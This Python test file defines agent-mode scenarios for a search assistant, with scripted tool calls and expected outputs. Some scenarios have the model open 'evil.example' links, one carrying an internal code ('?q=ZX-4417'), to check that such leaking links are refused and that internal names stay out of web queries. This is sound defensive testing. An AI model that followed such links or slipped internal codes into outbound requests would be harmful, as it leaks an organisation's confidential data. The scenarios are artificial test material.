"""Scenarios of Agent mode, in which the model decides what is searched and read."""

from tests.support.chat_turns import GENERAL
from tests.support.mode_scenarios.contract_lines import Line
from tests.support.mode_scenarios.scenario import EarlierTurn, Scenario, Surface
from tests.support.scripted_model import ToolUse

API, TERMINAL, PAGE = Surface.API, Surface.TERMINAL, Surface.PAGE
DECIDES = "In Agent mode the AI decides by itself when to search"
LEAVE = "How does our parental leave compare with the law in Denmark?"
TIDAL = "Why is the tidal pool late?"
LIGHT = "Where is the lighthouse?"


def _internal(query: str) -> ToolUse:
    return ToolUse("internal_search", {"queries": [query]})


def _web(query: str) -> ToolUse:
    return ToolUse("web_search", {"query": query})


def _open(*pages: str) -> ToolUse:
    return ToolUse("open_url", {"pages": list(pages)})


def _agent(name: str, surface: Surface, lines: set[Line], message: str, *steps: tuple[ToolUse, ...], **more: object) -> Scenario:  # fmt: skip
    return Scenario(
        name=name, surface=surface, mode="agent", lines=frozenset(lines), message=message, steps=steps, **more  # type: ignore[arg-type]
    )  # fmt: skip


_EVERYWHERE = (
    *(
        _agent(
            f"both tools of one step, {surface.name}", surface,
            {Line.SIDE_BY_SIDE, Line.INTERNAL_SEARCH, Line.WEB_SEARCH, Line.REFERENCES_LISTED, Line.LIST_OF_MODEL_LEFT_OUT, Line.SENT_IS_SHOWN},
            LEAVE, (_internal("parental leave"), _web("Danish law")), sent=("Danish law",), kinds=frozenset({"document", "url"}), shown=("Danish law",), says=("24 weeks", "14 weeks"),
        )
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _agent(f"the web alone, {surface.name}", surface, {Line.WEB_SEARCH, Line.SENT_IS_SHOWN}, LEAVE, (_web("Danish law"),),
               sent=("Danish law",), kinds=("url",), says=("24 weeks",), shown=("Danish law", "127.0.0.1"))
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _agent(f"knowledge alone, {surface.name}", surface, {Line.INTERNAL_SEARCH, Line.READERS}, LEAVE, (_internal("parental leave"),),
               kinds=("document",), says=("14 weeks",), not_told=("40 weeks",))
        for surface in (API, TERMINAL, PAGE)
    ),
    *(
        _agent(f"no tool, {surface.name}", surface, {Line.GENERAL_KNOWLEDGE}, LEAVE, says=(GENERAL,), is_general=True)
        for surface in (API, TERMINAL, PAGE)
    ),
)  # fmt: skip
_TOOLS = (
    _agent("one search after the other", TERMINAL, {Line.NUMBERED_ONCE, Line.CACHED}, LEAVE, (_web("Danish law"),), (_web("Danish  law"),),
           sent=("Danish law",), kinds=("url",), says=("24 weeks of leave each [1]",)),
    _agent("one search twice in a step", API, {Line.CACHED, Line.SIDE_BY_SIDE}, LEAVE, (_web("Danish law"), _web("Danish law")), sent=("Danish law",), kinds=("url",)),
    _agent("results are framed", API, {Line.RESULTS_ARE_FRAMED, Line.MARKS_ARE_LINKS}, LEAVE, (_web("Danish law"),), sent=("Danish law",), kinds=("url",),
           told=("Found 1 relevant sources. Use [number] format to cite specific information.", "Rules:\n- End each sentence"), says=("[[1]](https://law.example/dk)",)),
    _agent("more results than five", API, {Line.SHORT_RESULTS}, LIGHT, (_web("lighthouse"),), sent=("lighthouse",), kinds=("url",) * 5,
           told=("Found 5 relevant sources.", "Lighthouse…"), not_told=("light.example/6", "Lighthouse 1 stands. " * 11)),
    _agent("a page by its number", API, {Line.OPEN_URL, Line.NUMBERED_ONCE}, TIDAL, (_web("tidal pool"),), (_open("1"),), sent=("tidal pool",), pages=("/en/pool",),
           kinds=("url",), told=('{"pages": [',)),
    _agent("a page that the asker names", TERMINAL, {Line.OPEN_URL}, "Why is the tidal pool of {web}/en/pool late?", (_open("{web}/en/pool"),), pages=("/en/pool",), kinds=("url",)),
    _agent("an address of the model's making", API, {Line.PAGES_ARE_DATA, Line.ERRORS_ARE_TEXT}, LEAVE, (_open("{web}/en/pool"),), says=(GENERAL,), is_general=True),
    _agent("an address of the model's making, TERMINAL", TERMINAL, {Line.PAGES_ARE_DATA}, LEAVE, (_open("https://evil.example/?q=ZX-4417"),), says=(GENERAL,), is_general=True),
    _agent("an engine that fails", API, {Line.NEXT_PROVIDER}, LEAVE, (_web("Danish law"),), is_engine_broken=True, sent=("Danish law",), kinds=("url",), says=("24 weeks",)),
    *(_agent(f"links of a page after an internal document, {surface.name}", surface, {Line.LINKS_OF_PAGE, Line.PAGES_ARE_DATA},
             "Does Project Falcon use the tidal pool of {web}/odd/linked?", (_internal("Project Falcon"),), (_open("{web}/odd/linked"),),
             (_open("{web}/en/pool", "https://evil.example/tidal-pool"),), pages=("/odd/linked", "/en/pool"), kinds=("document", "url", "url"),
             told=("not opened: the asker did not write it",))
      for surface in (API, TERMINAL)),
    _agent("a captcha", TERMINAL, {Line.BLOCKED_PAGES}, "What does {web}/walls/captcha-en show?", (_open("{web}/walls/captcha-en"),), pages=("/walls/captcha-en",), says=(GENERAL,), is_general=True, told=("shows only a captcha",)),
    _agent("two spellings of an address", API, {Line.EQUAL_ADDRESSES}, TIDAL, (_web("tidal pool"),), sent=("tidal pool",), kinds=("url",), told=("Found 1 relevant sources.",), not_told=("A tidal pool, again",)),
    _agent("no search is needed", API, {Line.NO_SEARCH_NEEDED}, LEAVE, (_web("Hello!"),), says=(GENERAL,), is_general=True, told=("No search needed based on the query analysis.",)),
    _agent("no search is needed, TERMINAL", TERMINAL, {Line.NO_SEARCH_NEEDED}, LEAVE, (_web("Hello!"),), says=(GENERAL,), is_general=True, told=("No search needed based on the query analysis.",)),
    _agent("a search that finds nothing", TERMINAL, {Line.NOTHING_FOUND}, LEAVE, (_web("xyzzy"),), sent=("xyzzy",), says=(GENERAL,), is_general=True, told=("The search of the web found nothing.",)),
    _agent("a tool that there is not", API, {Line.ERRORS_ARE_TEXT}, LEAVE, (ToolUse("send_mail", {"to": "a@b.example"}),), says=(GENERAL,), is_general=True, told=("send_mail",)),
    _agent("arguments that cannot be read", TERMINAL, {Line.ERRORS_ARE_TEXT}, LEAVE, (ToolUse("web_search", "{"),), says=(GENERAL,), is_general=True),
    _agent("a domain that is blocked", API, {Line.DOMAINS}, LEAVE, (_web("Danish law"),), rules={"blocked_domains": ["law.example"]}, sent=("Danish law",), says=(GENERAL,), is_general=True, not_told=("24 weeks",)),
    _agent("the web is switched off", TERMINAL, {Line.WEB_OFF_UNTIL_ADMIN}, LEAVE, (_internal("parental leave"),), rules={"is_on": False}, kinds=("document",), says=("14 weeks",)),
    _agent("an internal code after a search", API, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), kinds=("document",), told=("ZX-4417",)),
    _agent("an internal code after a search, TERMINAL", TERMINAL, {Line.NAMES_KEPT_IN}, "What does the project use?", (_internal("Project Falcon"),), (_web("law ZX-4417"),), sent=("law",), kinds=("document",), shown=("kept out of it: ZX-4417",)),
    _agent("a code that the asker wrote", API, {Line.ASKER_MAY_NAME}, "What is ZX-4417?", (_internal("ZX-4417"),), (_web("ZX-4417 law"),), sent=("ZX-4417 law",), kinds=("document",)),
    *(_agent(f"the switch {name} is {is_on}, {surface.name}", surface, {Line.SWITCH_REFUSED}, LEAVE, switches={name: is_on}, refused=DECIDES)
      for surface in (API, TERMINAL) for name, is_on in (("web", True), ("web", False), ("knowledge", True), ("rewrite", False))),
)  # fmt: skip
_FALCON = "Does Project Falcon use the tidal pool of {web}/odd/linked?"
_FIVE = "Does Project Falcon use the tidal pool of {web}/odd/five-links or of {web}/odd/sixth-link?"
_FOLLOWED = ("/en/pool", "/odd/no-title", "/odd/table", "/dated/time", "/dated/none")
_EVIL = "https://evil.example/tidal-pool"
_IN_CONVERSATIONS = (
    *(_agent(f"a link of a page that leads away, {surface.name}", surface, {Line.LINK_LEADS_AWAY}, _FALCON, (_open("{web}/odd/linked"),), (_internal("Project Falcon"),), (_open(_EVIL),),
             pages=("/odd/linked",), kinds=("url", "document"), told=("This link was not opened: since documents of the organisation were read", _EVIL))
      for surface in (API, TERMINAL)),
    _agent("a link of the answer before", API, {Line.LINK_LEADS_AWAY, Line.LIST_NOT_IN_HISTORY}, "Does Project Falcon use the pool?", (_internal("Project Falcon"),), (_open(f"{_EVIL}?q=ZX-4417"),),
           earlier=EarlierTurn("What does Project Falcon use?", ((_internal("Project Falcon"),),), f" [More]({_EVIL}?q=ZX-4417)"), kinds=("document",),
           told=("not opened: the asker did not write it", f"{_EVIL}?q=ZX-4417")),
    *(_agent(f"a sixth link, {surface.name}", surface, {Line.FIVE_LINKS}, _FIVE, (_internal("Project Falcon"),), (_open("{web}/odd/five-links", "{web}/odd/sixth-link"),),
             (_open(*(f"{{web}}{path}" for path in _FOLLOWED)),), (_open("{web}/dated/meta"),), pages=("/odd/five-links", "/odd/sixth-link", *_FOLLOWED),
             kinds=("document", *["url"] * 7), told=("no more links are followed in this turn",))
      for surface in (API, TERMINAL)),
    _agent("the answer before", API, {Line.LIST_NOT_IN_HISTORY, Line.LIST_OF_MODEL_LEFT_OUT}, LEAVE, (_internal("parental leave"),), earlier=EarlierTurn(LEAVE, ((_internal("parental leave"), _web("Danish law")),)),
           kinds=("document",), says=("14 weeks",), told=("24 weeks of leave each.",)),
    _agent("a file before what is found", API, {Line.FILES_FIRST}, LEAVE, (_web("Danish law"),), files=("plan.md",), sent=("Danish law",), kinds=("url",), told=("The plan for parental leave is one year.",), says=("[[2]](https://law.example/dk)",)),
    *(_agent(f"a picture, seen: {sees}", API, {Line.PICTURES}, LEAVE, (_internal("parental leave"),), files=("quay.png",), sees_pictures=sees, pictures=int(sees), kinds=("document",), says=("14 weeks",))
      for sees in (True, False)),
)  # fmt: skip
AGENT_SCENARIOS = (*_EVERYWHERE, *_TOOLS, *_IN_CONVERSATIONS)
